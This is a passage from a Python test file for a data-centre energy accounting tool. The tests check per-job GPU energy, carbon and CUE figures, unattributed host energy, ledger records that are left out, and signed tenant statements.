                            "--from", "2026-01-01T00:00:00Z", "--to", f"2026-01-01T0{HOURS}:00:00Z"],
                           capture_output=True, text=True, timeout=300)
        assert r.returncode == 0, r.stderr
        influx2 = json.loads(r.stdout)
        assert influx2["source"]["kind"] == "influx2"
    finally:
        server.stop()
    embedded = _doc(conf, str(root / "store.sqlite"))
    for doc in (influx, influx2):
        assert len(doc["jobs"]) == len(embedded["jobs"]) == 4
        for a, b in zip(doc["jobs"], embedded["jobs"]):
            assert a["job"] == b["job"]
            for key in ("it_energy_wh", "facility_energy_wh", "gpu_hours", "completeness", "estimated_share"):
                assert a[key] == pytest.approx(b[key], rel=1e-12)
        assert doc["identities"]["e_dc_wh"] == pytest.approx(embedded["identities"]["e_dc_wh"], rel=1e-12)
        assert doc["warnings"] == embedded["warnings"]


def test_report_carbon_fields(tmp_path: Path) -> None:
    from puewatch.jobs.carbon import load_carbon, report_carbon

    path = tmp_path / "carbon.toml"
    path.write_text(CARBON)
    day = 86400 * NS
    doc = {"facility_energy_wh": 2.0e6, "it_energy_wh": 1.6e6, "ref": 0.1}
    out = report_carbon(doc, load_carbon(path), T0, T0 + day)
    green = 0.1 * 2.0e6 + 24_000.0  # the renewable meters and the certificate's whole day
    assert out["green_energy_wh"] == pytest.approx(green) and out["green_share"] == pytest.approx(green / 2.0e6)
    assert out["carbon_kg"] == pytest.approx((2.0e6 - green) / 1000 * EF)
    assert out["cue_kg_per_kwh"] == pytest.approx(out["carbon_kg"] / 1600)
    # A period reaching into a year without a factor: no carbon, no CUE.
    out = report_carbon(doc, load_carbon(path), T0 - day, T0 + day)
    assert out["carbon_kg"] is None and out["cue_kg_per_kwh"] is None and out["emission_factors"] == []


def test_the_sample_carbon_file_loads_and_ships_no_factor() -> None:
    from puewatch.jobs.carbon import load_carbon

    data = load_carbon(Path(__file__).parents[2] / "config" / "carbon.toml")
    assert data.factors == [] and data.green == []


def test_unknown_host_share_is_said_and_the_identities_hold(site: tuple[Path, dict, Path], tmp_path: Path) -> None:
    """A node with no RAPL and no host_estimate_w: its records say host_unknown (host_wh 0), `puewatch jobs`
    gives the job's host_unknown_share and a warning, and the unknown host energy stays unattributed."""
    conf, cells, _root = site
    extra = [encode_point(schema.JOB_LEDGER, {"node": "gpu-a-3", "gpu": "0", "slot": "0"},
                          {"job": "16", "tenant": "t3", "source": "static", "gpu_model": "NVIDIA H100 80GB HBM3",
                           "interval_s": 60.0, "gpu_wh": 2.0, "gpu_wh_estimated": False, "share": 1.0, "shared": False,
                           "reserved_idle": False, "host_wh": 0.0, "host_estimated": False,
                           "host_unknown": m <= 30}, T0 + m * 60 * NS)
             for m in range(1, 61)]
    store = EmbeddedStore(tmp_path / "store.sqlite")
    store.write(_lines(cells) + ("\n".join(extra) + "\n").encode())
    store.close()
    doc = _doc(conf, str(tmp_path / "store.sqlite"))
    jobs = {j["job"]: j for j in doc["jobs"]}
    assert jobs["16"]["host_unknown_share"] == pytest.approx(0.5)  # half its minutes
    assert all(j["host_unknown_share"] == 0 for k, j in jobs.items() if k != "16")
    assert [t["host_unknown_share"] for t in doc["tenants"] if t["tenant"] == "t3"] == [pytest.approx(0.5)]
    assert any("1 jobs' host share unknown" in w and "gpu-a-3" in w for w in doc["warnings"]), doc["warnings"]
    i = doc["identities"]
    assert i["jobs_it_energy_wh"] + i["unattributed_it_energy_wh"] == pytest.approx(i["measured_it_energy_wh"], rel=1e-12)
    assert i["jobs_facility_energy_wh"] + i["unattributed_facility_energy_wh"] == pytest.approx(i["e_dc_wh"], rel=1e-12)
    text = _jobs(conf, str(tmp_path / "store.sqlite"))
    assert text.returncode == 0 and "unknown 50% of the time" in text.stdout, text.stdout
    rows = list(csv.DictReader(io.StringIO(_jobs(conf, str(tmp_path / "store.sqlite"), "--csv").stdout, newline="")))
    assert [r["host_unknown_share"] for r in rows if r["kind"] == "job" and r["job"] == "16"] == ["0.5"]


def test_processes_of_no_job_and_records_without_a_job_are_counted_and_reported(site: tuple[Path, dict, Path],
                                                                                 tmp_path: Path) -> None:
    """The agents' job_ledger_stats (GPU processes of no job) per node, and ledger records with numbers but
    no job: both counted and shown by `puewatch jobs` (JSON, text, warnings), never dropped silently."""
    conf, cells, _root = site
    stats = [encode_point(schema.JOB_LEDGER_STATS, {"node": node}, {"unattributed_processes": n, "interval_s": 60.0},
                          T0 + m * 60 * NS)
             for node, minutes in (("gpu-a-1", {5: 1, 6: 3, 7: 2}), ("gpu-b-2", {40: 1})) for m, n in minutes.items()]
    no_job = [encode_point(schema.JOB_LEDGER, {"node": "gpu-a-1", "gpu": "0", "slot": "3"},
                           {"interval_s": 60.0, "gpu_wh": 1.0, "host_wh": 0.5}, T0 + m * 60 * NS) for m in (10, 11)]
    store = EmbeddedStore(tmp_path / "store.sqlite")
    store.write(_lines(cells) + ("\n".join(stats + no_job) + "\n").encode())
    store.close()
    doc = _doc(conf, str(tmp_path / "store.sqlite"))
    assert doc["unattributed_processes"] == [
        {"node": "gpu-a-1", "intervals": 3, "max_processes": 3, "process_intervals": 6},
        {"node": "gpu-b-2", "intervals": 1, "max_processes": 1, "process_intervals": 1}]
    assert doc["ledger_records_left_out"] == {"gpu_wh negative or not finite": 1, "no job": 2}
    assert any("2 records left out: no job" in w for w in doc["warnings"]), doc["warnings"]
    assert any("belong to no job ran on 2 nodes" in w and "gpu-a-1 (up to 3 in 3 intervals)" in w for w in doc["warnings"])
    text = _jobs(conf, str(tmp_path / "store.sqlite")).stdout
    assert "GPU processes of no job on gpu-a-1: up to 3 at once, in 3 ledger intervals (6 process-intervals)" in text
    assert "ledger records left out: 1 gpu_wh negative or not finite, 2 no job" in text


def test_jobs_outside_the_period_bad_shares_and_nameless_tenants(site: tuple[Path, dict, Path], tmp_path: Path) -> None:
    """Found by the jobs audit with real Slurm: a job whose records all lie after the period (read for their
    overlap) was listed with 0 GPU-h and counted in its tenant's `jobs`, and a statement was signed for a
    tenant with no job in the period; a share of 5 or -1 made five times or negative GPU-hours; a job
    without a Slurm account went to the tenant "" unsaid, and a statement could be signed for it."""
    conf, cells, _root = site
    end = T0 + HOURS * 3600 * NS

    def rec(job: str, tenant: str | None, t: int, share: float) -> str:
        fields = {"job": job, "gpu_model": "X", "interval_s": 60.0, "gpu_wh": 1.0, "host_wh": 0.0, "share": share}
        if tenant is not None:
            fields["tenant"] = tenant
        return encode_point(schema.JOB_LEDGER, {"node": "gpu-x-1", "gpu": "0", "slot": "0"}, fields, t)

    extra = [rec("late", "t3", end + 60 * NS, 1.0),  # (end, end + 60 s]: none of it in the period
             rec("11", "t1", end + 120 * NS, 1.0),  # a job of the period, a record after it
             rec("five", "t1", T0 + 300 * NS, 5.0), rec("negative", "t1", T0 + 360 * NS, -1.0),
             rec("nameless", None, T0 + 420 * NS, 1.0)]
    store = tmp_path / "store.sqlite"
    s = EmbeddedStore(store)
    s.write(_lines(cells) + ("\n".join(extra) + "\n").encode())
    s.close()
    doc = _doc(conf, str(store))
    jobs = {j["job"]: j for j in doc["jobs"]}
    assert "late" not in jobs and "t3" not in {t["tenant"] for t in doc["tenants"]}
    assert jobs["11"]["records"] == 60  # its record after the period is no record of the period
    assert {t["tenant"]: t["jobs"] for t in doc["tenants"]} == {"": 1, "t1": 2, "t2": 2}
    assert "five" not in jobs and "negative" not in jobs
    assert doc["ledger_records_left_out"] == {"gpu_wh negative or not finite": 1, "share not in (0, 1]": 2}
    assert jobs["nameless"]["tenant"] == "" and jobs["nameless"]["gpu_hours"] == pytest.approx(1 / 60)
    assert any(w.startswith("1 jobs have no tenant") for w in doc["warnings"]), doc["warnings"]
    cli = [sys.executable, "-m", "puewatch.cli"]
    subprocess.run([*cli, "keys", "new", "--out", str(tmp_path), "--name", "site"], check=True, capture_output=True)
    for tenant, said in (("t3", "tenant 't3' has no job in 2026-01-01T00:00:00Z..2026-01-01T01:00:00Z"),
                         ("", "--tenant: a statement is for a named tenant")):
        out = subprocess.run([*cli, "statement", "--config", str(conf), "--store", str(store), "--from",
                              "2026-01-01T00:00:00Z", "--to", f"2026-01-01T0{HOURS}:00:00Z", "--tenant", tenant,
                              "--sign", str(tmp_path / "site.key")], capture_output=True, text=True, timeout=300)
        assert out.returncode == 2 and said in out.stderr, out.stderr
